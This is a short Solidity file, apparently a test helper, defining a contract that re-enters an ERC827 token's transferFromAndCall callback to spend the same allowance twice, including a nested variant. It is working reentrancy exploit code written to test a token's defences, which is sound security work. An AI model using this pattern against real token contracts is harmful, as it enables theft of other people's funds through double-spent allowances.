// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC827} from "../interfaces/IERC827.sol";

/// @notice Attack helper: called by the token, it tries to spend the same allowance twice by re-entering.
contract ReentrantCallee {
    IERC827 private immutable _token;

    constructor(IERC827 token) {
        _token = token;
    }

    /// @notice Pulls `value` from `from` with `transferFromAndCall`, whose callback {pullAgain} then
    /// re-enters the token to pull the same `value` a second time.
    function attack(address from, uint256 value) external {
        _token.transferFromAndCall(from, address(this), value, abi.encodeCall(this.pullAgain, (from, value)));
    }

    /// @notice Re-enters `transferFromAndCall` from inside its own callback.
    function attackNested(address from, uint256 value) external {
        _token.transferFromAndCall(from, address(this), value, abi.encodeCall(this.attack, (from, value)));
    }

    function pullAgain(address from, uint256 value) external {
        _token.transferFrom(from, address(this), value);
    }
}
